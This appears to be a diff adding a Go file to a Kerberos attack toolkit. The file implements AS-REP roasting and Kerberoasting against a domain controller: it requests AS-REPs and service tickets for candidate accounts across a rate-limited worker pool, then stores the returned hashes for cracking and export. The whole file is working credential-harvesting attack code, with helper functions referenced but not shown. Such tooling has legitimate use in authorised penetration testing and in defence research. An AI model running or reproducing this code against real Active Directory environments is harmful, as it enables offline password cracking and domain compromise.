@@ -0,0 +1,154 @@
+package krb
+
+import (
+	"log"
+	"strings"
+	"sync"
+	"time"
+)
+
+// AcquireOptions controls AcquireHashes.
+type AcquireOptions struct {
+	Workers int // concurrent KDC requests, default 4
+	// Interval is the minimum gap between two KDC requests across all
+	// workers; zero sends them as fast as the workers allow.
+	Interval time.Duration
+}
+
+// AcquireStats counts what AcquireHashes sent and got back.
+type AcquireStats struct {
+	Requests int
+	Hashes   int
+	Failures int
+}
+
+// AcquireHashes requests an AS-REP for every ASREP candidate and a service
+// ticket for every SPN of every KERBEROAST candidate, once per run, and
+// stores the outcome in the candidates' Hashes. Cracking, export and
+// annotation read those records instead of asking the KDC again.
+func (c *LDAPClient) AcquireHashes(domain string, candidates []Candidate, opts AcquireOptions) AcquireStats {
+	domainInfo, err := c.GetDomainInfo()
+	if err != nil {
+		domainInfo = &DomainInfo{DomainName: domain}
+	}
+	realm := domainInfo.DomainName
+	if realm == "" {
+		realm = domain
+	}
+	kdcHost, err := ResolveKDCHost(c.ldapHost, c.kdcOverride, domainInfo.DNSHostName, strings.ToLower(realm))
+	if err != nil {
+		log.Printf("[!] Hash acquisition skipped: %v", err)
+		return AcquireStats{}
+	}
+	kc, err := NewRealKerberosClient(domain, kdcHost)
+	if err != nil {
+		log.Printf("[!] Hash acquisition skipped: %v", err)
+		return AcquireStats{}
+	}
+	kc.SetClientCredentials(c.bindSAM, c.bindPass)
+	kc.SetClockOffset(c.ClockOffset())
+	return AcquireHashes(kc, candidates, opts)
+}
+
+// roastJob is one KDC request: an AS-REP when spn is empty.
+type roastJob struct {
+	candidate int
+	slot      int
+	spn       string
+}
+
+// AcquireHashes runs the roasting requests for candidates on a bounded
+// worker pool. Records keep SPN order; the first hash also goes to
+// Candidate.Hash. Candidates that already hold records are left alone.
+func AcquireHashes(roaster KerberosProtocolClient, candidates []Candidate, opts AcquireOptions) AcquireStats {
+	workers := opts.Workers
+	if workers <= 0 {
+		workers = 4
+	}
+
+	records := make([][]HashRecord, len(candidates))
+	var jobs []roastJob
+	for i, c := range candidates {
+		if len(c.Hashes) > 0 {
+			continue
+		}
+		switch c.Type {
+		case "ASREP":
+			records[i] = make([]HashRecord, 1)
+			jobs = append(jobs, roastJob{candidate: i})
+		case "KERBEROAST":
+			records[i] = make([]HashRecord, len(c.SPNs))
+			for slot, spn := range c.SPNs {
+				jobs = append(jobs, roastJob{candidate: i, slot: slot, spn: spn})
+			}
+		}
+	}
+	if len(jobs) == 0 {
+		return AcquireStats{}
+	}
+	log.Printf("[*] Acquiring hashes: %d KDC requests, %d workers, %s apart", len(jobs), workers, opts.Interval)
+
+	// A shared ticker spaces requests across every worker.
+	var pace <-chan time.Time
+	if opts.Interval > 0 {
+		ticker := time.NewTicker(opts.Interval)
+		defer ticker.Stop()
+		pace = ticker.C
+	}
+
+	queue := make(chan roastJob)
+	var wg sync.WaitGroup
+	for w := 0; w < workers && w < len(jobs); w++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for job := range queue {
+				if pace != nil {
+					<-pace
+				}
+				records[job.candidate][job.slot] = roast(roaster, candidates[job.candidate].SamAccountName, job.spn)
+			}
+		}()
+	}
+	for _, job := range jobs {
+		queue <- job
+	}
+	close(queue)
+	wg.Wait()
+
+	stats := AcquireStats{Requests: len(jobs)}
+	for i, recs := range records {
+		if recs == nil {
+			continue
+		}
+		candidates[i].Hashes = recs
+		for _, r := range recs {
+			if !r.OK() {
+				stats.Failures++
+				continue
+			}
+			stats.Hashes++
+			if candidates[i].Hash == "" {
+				candidates[i].Hash = r.Hash
+			}
+		}
+	}
+	return stats
+}
+
+func roast(roaster KerberosProtocolClient, sam, spn string) HashRecord {
+	if spn == "" {
+		record, err := roaster.ExtractASREPHash(sam)
+		if err != nil {
+			log.Printf("[!] AS-REP %s: %v", sam, err)
+			return FailedHashRecord("", ASREPRequestEtypes, err)
+		}
+		return record
+	}
+	record, err := roaster.ExtractKerberoastHash(sam, spn)
+	if err != nil {
+		log.Printf("[!] Kerberoast %s %s: %v", sam, spn, err)
+		return FailedHashRecord(spn, KerberoastRequestEtypes, err)
+	}
+	return record
+}